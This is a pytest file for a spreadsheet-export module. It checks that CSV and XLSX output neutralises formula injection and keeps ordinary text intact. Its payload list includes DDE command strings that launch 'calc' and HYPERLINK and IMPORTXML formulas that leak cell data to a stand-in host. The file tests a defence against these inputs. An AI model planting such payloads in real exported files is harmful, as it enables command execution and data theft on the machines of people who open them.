"""Nothing in an exported file is taken for a formula, and nothing is lost (ASVS 1.2.10, security.md P12)."""

import csv
import io
import zipfile
from xml.etree import ElementTree

import pytest

from agency import spreadsheets

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    '"=1+1"',
    '""=1+1',
    "'=1+1",
    "''=1+1",
    "';=1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a|=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    'a";=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"点")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x.example"), "//a")',
    "+86 138 0013 8000",
    "\u2212 1",
    "﹢1",
    "﹣1",
    "\tTabs",
    "\rreturn",
    ";;=1",
    "姓名,\t=1",
]
HARMLESS = ["KH-2026-000017-4", "张三", "138****5678", "a=b", "2026-11-21 10:40:05", "3-4 人", "x@y.cn", ""]
BAD = set("=+-@＝＋－＠\u2212﹢﹣﹦﹫")


def opened(text: str, separators: str) -> list[str]:
    """Every cell a program splitting at `separators` would see, quotation marks believed or not."""
    cells = [text]
    for separator in separators:
        cells = [part for cell in cells for part in cell.split(separator)]
    return cells


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_like_a_formula_wherever_it_is_split(payload):
    for cell in opened(spreadsheets.safe(payload), ";,|\t\r\n"):
        kept = cell.lstrip('"\u00a0\u3000\u200b\ufeff ')
        assert not kept or kept[0] not in BAD or cell.startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS + HARMLESS)
def test_reading_the_file_again_gives_what_was_written(payload):
    file = spreadsheets.csv_file([["head"], [payload]])

    rows = list(csv.reader(io.StringIO(file.read().decode("utf-8-sig"), newline="")))

    assert [spreadsheets.plain(row[0]) for row in rows] == ["head", payload]


def test_harmless_text_stands_as_it_is():
    assert [spreadsheets.safe(text) for text in HARMLESS] == HARMLESS


def test_a_csv_file_begins_with_the_mark_that_lets_excel_read_chinese():
    assert spreadsheets.csv_file([["中文"]]).read() == b'\xef\xbb\xbf"\xe4\xb8\xad\xe6\x96\x87"\r\n'


def cells_of(file) -> list[tuple[str, str]]:
    """(type, text) of every cell of the first sheet."""
    space = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(file) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    found = sheet.iterfind(".//m:sheetData/m:row/m:c", space)
    return [(cell.get("t", ""), "".join(cell.itertext())) for cell in found]


def test_every_cell_of_a_workbook_is_text_and_none_a_formula():
    rows = [PAYLOADS, [*HARMLESS, "123", "https://x.example"]]
    file = spreadsheets.xlsx_file(rows, title="历史/记录", mark="钱正")

    types = {kind for kind, text in cells_of(file) if text}

    assert types == {"inlineStr"}


def test_text_no_spreadsheet_can_hold_is_made_writable():
    wild = ["\x00\x07nul", "\ud800 lone", "长" * 40_000, "😀"]

    csv_bytes = spreadsheets.csv_file([wild]).read()
    xlsx = cells_of(spreadsheets.xlsx_file([wild], title="x", mark="m"))

    assert b"\x00" not in csv_bytes
    assert [len(text) for _kind, text in xlsx] == [5, 6, spreadsheets.CELL_LONGEST, 1]
